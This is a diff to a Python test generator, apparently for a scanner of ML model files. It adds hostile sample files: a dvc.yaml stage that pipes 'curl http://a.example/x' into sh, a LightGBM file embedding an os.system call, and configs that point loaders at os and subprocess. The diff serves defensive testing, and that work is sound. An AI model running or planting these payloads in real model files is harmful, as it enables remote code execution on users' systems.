@@ -231,6 +231,15 @@ def _hostile_keras() -> Iterator[Sample]:
 
 
 def _hostile_tensorflow() -> Iterator[Sample]:
+    yield "graph.pbtxt", b'node {\n  name: "x"\n  op: "WriteFile"\n}\n'
+    yield "cut.lgb", b"tree\nversion=v4\n[plugin: __import__('os').system('id')]\n"
+    yield "side.gguf", gguf([], [gguf_tensor("t", [0, 1 << 63])], bytes(32))
+    yield "ml/MLmodel", b"flavors:\n  python_function:\n    loader_module: os\n"
+    yield "dv/dvc.yaml", b"stages:\n  a:\n    cmd: curl http://a.example/x | sh\n"
+    yield (
+        "pe/adapter_config.json",
+        b'{"peft_type": "LORA", "auto_mapping": {"parent_library": "subprocess"}}',
+    )
     for operator in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "PyFuncStateless",
                      "MatchingFiles"):  # fmt: skip
         yield f"tf_{operator}/saved_model.pb", saved_model(tf_graph(tf_node(operator)))
